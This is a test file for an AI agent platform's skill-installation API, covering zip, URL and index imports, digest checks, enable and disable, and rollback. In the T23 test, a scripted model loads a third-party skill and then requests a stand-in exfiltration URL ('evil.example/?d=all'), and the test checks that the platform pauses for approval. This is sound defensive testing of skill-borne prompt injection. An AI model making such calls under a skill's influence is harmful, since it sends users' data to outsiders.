import { afterEach, describe, expect, it, vi } from 'vitest'
import { call, callJson, type Answer } from '../fakes/client.ts'
import { skillBundle } from '../fakes/skills.ts'
import { installUpstream, type UpstreamRequest } from '../fakes/upstream.ts'
import { zipOf } from '../fakes/zip.ts'

const path = '/api/operator/skills'
let upstream: ReturnType<typeof installUpstream> | undefined
afterEach(() => upstream?.restore())

const add = (bundle: object, more: object = {}): Promise<Answer> =>
  callJson(path, { json: { bundle, ...more } })
const change = (name: string, what: string, json: object = {}): Promise<Answer> =>
  callJson(`${path}/${name}/${what}`, { json })
const readTools = ({ messages }: UpstreamRequest): readonly Answer[] =>
  messages.filter(({ role }) => role === 'tool').map(({ content }) => JSON.parse(String(content)))

/** A run of a model that looks for a way, loads the first skill that is found and says its first line; then calls a tool. */
async function runTask(query: string) {
  upstream = installUpstream((request) => {
    const [found, loaded] = readTools(request)
    if (!found) return { calls: [{ name: 'isola__find', input: { queries: [query] } }] }
    const [skill] = found.skills ?? []
    if (!skill) return { text: 'no way is known' }
    if (!loaded) return { calls: [{ name: 'isola__load_skill', input: { name: skill.name } }] }
    return { text: loaded.instructions.split('\n')[0] }
  })
  const { id } = await callJson('/api/sessions', { json: {} })
  const { result } = await callJson(`/api/sessions/${id}/runs`, {
    json: { task: query, wait: true },
  })
  upstream.restore()
  return { session: id as string, text: String(result.result) }
}

const steal = 'https://evil.example/?d=all'

/** A run of a model that makes these calls one after the other, as it comes to rest. */
async function runCalls(calls: readonly { readonly name: string; readonly input: object }[]) {
  const next = (request: UpstreamRequest) => calls[readTools(request).length]
  upstream = installUpstream(
    (request) => {
      const call = next(request)
      return call ? { calls: [call] } : { text: 'done' }
    },
    () => new Response('a page'),
  )
  const { id } = await callJson('/api/sessions', { json: {} })
  const { run } = await callJson(`/api/sessions/${id}/runs`, { json: { task: 'go' } })
  const view = await vi.waitFor(
    async () => {
      const now = await callJson(`/api/sessions/${id}/runs/${run}`)
      expect(['queued', 'running']).not.toContain(now.state)
      return now
    },
    { timeout: 20_000 },
  )
  upstream.restore()
  return view
}

const zipType = { 'content-type': 'application/zip' }
const markdown = (name: string, body: string) =>
  skillBundle(name, `Does ${name}, which nobody else does.`, body).files['SKILL.md']
const sendZip = (files: Readonly<Record<string, string>>, query = '') =>
  call(`${path}${query}`, { method: 'POST', headers: zipType, body: zipOf(files) })

describe('P1: skills come as a zip, from an address, or by an index', () => {
  const collection = {
    'repo-main/README.md': 'A collection.',
    'repo-main/skills/weaving/SKILL.md': markdown('weaving', 'Warp, then weft.'),
    'repo-main/skills/weaving/refs/knots.md': 'Reef knot.',
    'repo-main/skills/dyeing/SKILL.md': markdown('dyeing', 'Heat the vat.'),
    'repo-main/skills/broken/SKILL.md': '---\nname: [\n---\n',
  }

  it('all of a collection, or the named skills; the fault of one is said, and the others come', async () => {
    const some = await (await sendZip(collection, '?skills=dyeing&dryRun=true')).json()
    expect(some).toMatchObject({ skills: [{ name: 'dyeing' }], refused: [] })
    expect((await call(`${path}/dyeing`)).status).toBe(404)
    const all = await sendZip(collection)
    expect([all.status, await all.json()]).toMatchObject([
      201,
      {
        skills: [
          { name: 'dyeing', source: 'zip', files: [] },
          { name: 'weaving', files: ['refs/knots.md'] },
        ],
        refused: [{ name: 'broken', code: 'plugin_upload_invalid' }],
      },
    ])
  })

  it('an archive by its address', async () => {
    const zip = zipOf({ 'felting/SKILL.md': markdown('felting', 'Rub it.') })
    upstream = installUpstream(
      () => ({ text: '' }),
      () => new Response(zip.slice()),
    )
    const url = 'https://skills.example/felting.zip'
    expect(await callJson(path, { json: { url } })).toMatchObject({
      skills: [{ name: 'felting', source: url }],
    })
  })

  it('an index by Agent Skills Discovery 0.2.0, each entry as its digest says', async () => {
    const [spinning, carding] = [markdown('spinning', 'Twist.'), markdown('carding', 'Comb.')]
    const zip = zipOf({ 'SKILL.md': carding, 'refs/combs.md': 'Two.' })
    const digest = async (bytes: Uint8Array) =>
      `sha256:${[...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes.slice()))].map((byte) => byte.toString(16).padStart(2, '0')).join('')}`
    const entry = { type: 'skill-md', description: 'Does.' }
    const index = {
      $schema: 'https://schemas.agentskills.io/discovery/0.2.0/schema.json',
      skills: [
        {
          ...entry,
          name: 'spinning',
          url: 'spinning/SKILL.md',
          digest: await digest(new TextEncoder().encode(spinning)),
        },
        {
          ...entry,
          name: 'carding',
          type: 'archive',
          url: '/a/carding.zip',
          digest: await digest(zip.slice()),
        },
        { ...entry, name: 'changed', url: 'spinning/SKILL.md', digest: `sha256:${'0'.repeat(64)}` },
        {
          ...entry,
          name: 'renamed',
          url: 'spinning/SKILL.md',
          digest: await digest(new TextEncoder().encode(spinning)),
        },
        { ...entry, name: 'unpinned', url: 'spinning/SKILL.md' },
      ],
    }
    const pages: Readonly<Record<string, () => Response>> = {
      'https://wool.example/.well-known/agent-skills/index.json': () => Response.json(index),
      'https://wool.example/.well-known/agent-skills/spinning/SKILL.md': () =>
        new Response(spinning),
      'https://wool.example/a/carding.zip': () => new Response(zip.slice()),
    }
    upstream = installUpstream(
      () => ({ text: '' }),
      ({ url }) => pages[url]?.() ?? new Response('not here', { status: 404 }),
    )
    const answer = await callJson(path, { json: { url: 'https://wool.example/' } })
    const from = 'https://wool.example/.well-known/agent-skills/index.json'
    expect(answer.skills).toMatchObject([
      { name: 'spinning', source: from, tier: 'community' },
      { name: 'carding', files: ['refs/combs.md'] },
    ])
    const why = Object.fromEntries(
      answer.refused.map(({ name, message }: Answer) => [name, message]),
    )
    expect(why).toMatchObject({
      changed: expect.stringContaining('not what the index pins') as string,
      renamed: expect.stringContaining('calls itself spinning') as string,
      unpinned: expect.stringContaining('digest') as string,
    })
    const some = { url: 'https://wool.example', skills: ['carding'], dryRun: true }
    expect(await callJson(path, { json: some })).toMatchObject({
      skills: [{ name: 'carding', changes: { files: [] } }],
      refused: [],
    })
  })

  it.each([
    ['http://skills.example/a.zip', 400, 'only https is'],
    ['https://10.0.0.1/a.zip', 400, 'not public'],
    ['https://skills.example/page.html', 422, 'no skill at this address'],
    ['https://skills.example/', 422, 'no index'],
  ])('nothing from %s', async (url, status, why) => {
    upstream = installUpstream(
      () => ({ text: '' }),
      () => new Response('<html>'),
    )
    const refused = await call(path, { json: { url } })
    expect([refused.status, await refused.text()]).toEqual([status, expect.stringContaining(why)])
  })
})

describe('P19: a skill that was installed', () => {
  const kites = skillBundle(
    'kite-building',
    'Builds kites from paper and bamboo.',
    'Cut the spars.',
  )

  it('is found and loaded once it is enabled, not before, and not any more once it is off or gone', async () => {
    const query = 'build a kite from bamboo'
    const { skills } = await add(kites)
    expect(skills).toMatchObject([{ name: 'kite-building', tier: 'community', notes: [] }])
    expect((await runTask(query)).text).toBe('no way is known')
    await change('kite-building', 'enable', { hash: skills[0].hash })
    expect((await runTask(query)).text).toBe('Cut the spars.')
    await change('kite-building', 'disable')
    expect((await runTask(query)).text).toBe('no way is known')
    await change('kite-building', 'enable')
    expect((await runTask(query)).text).toBe('Cut the spars.')
    await callJson(`${path}/kite-building`, { method: 'DELETE' })
    expect((await runTask(query)).text).toBe('no way is known')
    expect((await call(`${path}/kite-building`)).status).toBe(404)
  })

  it('T23: is the text of a stranger for the model that read it: what it makes a model do outside is asked about', async () => {
    await add(kites)
    await change('kite-building', 'enable')
    const json = { policy: { network: { hosts: ['*'] }, destructive: 'allow' } }
    await callJson('/api/operator/policy', { json })
    const get = { name: 'isola__call', input: { name: 'http__get', input: { url: steal } } }
    const load = { name: 'isola__load_skill', input: { name: 'kite-building' } }
    const { pauses } = await runCalls([load, get])
    expect(pauses).toMatchObject([{ kind: 'approval', tool: 'http__get' }])
    expect(pauses[0].about).toMatch(/stranger can have written \(isola__load_skill kite-building\)/)
    // What ships is our own words: the same call is made.
    const own = { ...load, input: { name: 'meeting-minutes' } }
    expect((await runCalls([own, get])).state).toBe('completed')
    await callJson('/api/operator/policy', { json: { policy: {} } })
  })

  it('goes back with an earlier generation, to the version of then', async () => {
    await add(kites)
    const { generation } = await change('kite-building', 'enable')
    const first = (await callJson(`${path}/kite-building`)).hash
    const next = skillBundle('kite-building', 'Builds kites from paper and bamboo.', 'Fly it.')
    const [{ hash, changes, notes }] = (await add(next)).skills
    expect(notes.join()).toContain('until an operator takes this one')
    expect(changes).toMatchObject({ from: first, files: [{ path: 'SKILL.md', added: 1 }] })
    expect((await runTask('build a kite from bamboo')).text).toBe('Cut the spars.')
    const shown = await callJson(`${path}/kite-building`)
    expect(shown).toMatchObject({ hash: first, versions: [{ hash }, { hash: first }] })
    await change('kite-building', 'update', { hash })
    expect((await runTask('build a kite from bamboo')).text).toBe('Fly it.')
    await callJson(`/api/operator/generations/${generation}/restore`, { json: {} })
    expect((await runTask('build a kite from bamboo')).text).toBe('Cut the spars.')
    const { records } = await callJson('/api/operator/audit?type=skill_updated')
    expect(records).toMatchObject([{ data: { skill: 'kite-building', hash, from: first } }])
  })
})
